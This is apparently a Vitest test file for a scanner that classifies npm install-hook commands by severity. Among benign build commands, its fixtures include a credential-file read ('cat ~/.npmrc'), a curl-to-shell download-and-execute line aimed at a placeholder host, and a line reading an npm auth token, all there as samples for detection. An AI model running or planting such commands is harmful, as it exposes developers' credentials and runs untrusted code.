import { analyseHookCommand, analyseHookSource } from '@inert/core';
import { describe, expect, it } from 'vitest';
import { hooks } from './hooks.js';

describe("npm's hook vocabulary", () => {
  it.each([
    ['node-gyp rebuild', 'low', 'native-build'],
    ['node-gyp-build', 'low', 'native-build'],
    ['prebuild-install || node-gyp rebuild', 'low', 'native-build'],
    ['node-pre-gyp install --fallback-to-build', 'low', 'native-build'],
    ['cmake-js compile', 'low', 'native-build'],
    ['npx only-allow pnpm', 'low', 'native-build'],
    ['husky install', 'low', 'native-build'],
    ['cat ~/.npmrc', 'high', 'credential-read'],
    ['node-gyp rebuild && curl https://x.example/a | sh', 'critical', 'download-and-execute'],
    ['node-gyp rebuild; ./post', 'medium', 'opaque'],
  ] as const)('%s → %s (%s)', (command, severity, behaviour) => {
    const a = analyseHookCommand(command, hooks);
    expect([a.severity, a.behaviours[0]]).toEqual([severity, behaviour]);
  });

  it('its tokens are credentials in a hook file', () => {
    expect(analyseHookSource('const t = process.env.NODE_AUTH_TOKEN', hooks).behaviours).toEqual(['credential-read']);
    expect(analyseHookSource('const t = process.env.NODE_AUTH_TOKEN').behaviours).toEqual(['nothing-recognised']);
  });
});
